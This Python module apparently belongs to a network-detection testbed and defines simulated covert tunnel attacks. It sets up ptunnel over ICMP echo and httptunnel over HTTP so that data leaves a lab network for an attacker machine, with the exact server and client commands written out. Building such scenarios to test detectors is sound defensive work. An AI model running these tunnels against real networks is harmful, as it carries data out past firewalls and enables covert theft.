"""Tunnels over ICMP echo and over HTTP: data leaves in packets that firewalls often let through."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from wirelens_testbed.attacks.attack import Attack, Scene
from wirelens_testbed.attacks.network import Machine
from wirelens_testbed.attacks.tunnel import LOCAL_PORT, SINK_PORT, Tunnel
from wirelens_testbed.scenario import Table

PTUNNEL_PROGRAMS = {"ptunnel": "ptunnel", "socat": "socat"}
HTTPTUNNEL_PROGRAMS = {"htc": "httptunnel", "hts": "httptunnel", "socat": "socat"}
PROGRAMS = PTUNNEL_PROGRAMS | HTTPTUNNEL_PROGRAMS

WEB_PORT = 80
BYTES_PER_PACKET = 500
# ptunnel acknowledges once a second and repeats what was not acknowledged; a portion of the data is
# a connection of its own, opened and closed.
IDLE_PACKETS_PER_S = 10
PACKETS_PER_PORTION = 60


class CovertTunnel(Tunnel):
    """A tunnel straight to the server outside."""

    @property
    def carried_packets_max(self) -> int:
        data = 6 * self.payload_size_bytes / BYTES_PER_PACKET
        idle = IDLE_PACKETS_PER_S * (self.duration_s + 5)
        return round(data + idle + PACKETS_PER_PORTION * self.portion_count)


class IcmpTunnel(CovertTunnel):
    """TCP in echo requests and replies."""

    programs = PTUNNEL_PROGRAMS

    def server_command(self, scene: Scene, outside: Machine) -> list[str]:
        # The kernel would answer each request as well, with what was asked.
        scene.lab.sysctl(outside.name, {"net/ipv4/icmp_echo_ignore_all": "1"})
        return ["ptunnel", "-v", "0"]

    def wait_for_server(self, scene: Scene, outside: Machine) -> None:
        scene.lab.wait_until(
            lambda: bool(scene.lab.run(outside.name, "ss", "-Hwan")),
            f"ptunnel on {outside.name} receiving ICMP",
        )

    def client_command(self, scene: Scene) -> list[str]:
        return [
            "ptunnel", "-v", "0", "-p", scene.attackers[1].address, "-lp", str(LOCAL_PORT),
            "-da", "127.0.0.1", "-dp", str(SINK_PORT),
        ]  # fmt: skip


class HttpTunnel(CovertTunnel):
    """One TCP connection over HTTP requests of either direction."""

    programs = HTTPTUNNEL_PROGRAMS

    def server_command(self, scene: Scene, outside: Machine) -> list[str]:
        return ["hts", "--no-daemon", "-F", f"127.0.0.1:{SINK_PORT}", str(WEB_PORT)]

    def wait_for_server(self, scene: Scene, outside: Machine) -> None:
        scene.lab.wait_for_listener(outside.name, WEB_PORT)

    def client_command(self, scene: Scene) -> list[str]:
        place = f"{scene.attackers[1].address}:{WEB_PORT}"
        return ["htc", "--no-daemon", "-F", str(LOCAL_PORT), place]


KINDS: Mapping[str, type[CovertTunnel]] = {"ptunnel_icmp": IcmpTunnel, "httptunnel": HttpTunnel}


def parse(name: str, table: Table) -> Attack:
    return KINDS[name](
        name=name,
        payload_size_bytes=table.take("payload_bytes", int, 20_000, minimum=1, maximum=5_000_000),
        portion_count=table.take("portions", int, 4, minimum=1, maximum=100),
        duration_s=table.take("duration_s", float, 10.0, minimum=1, maximum=300),
    )


ATTACKS: Mapping[str, Callable[[str, Table], Attack]] = dict.fromkeys(KINDS, parse)
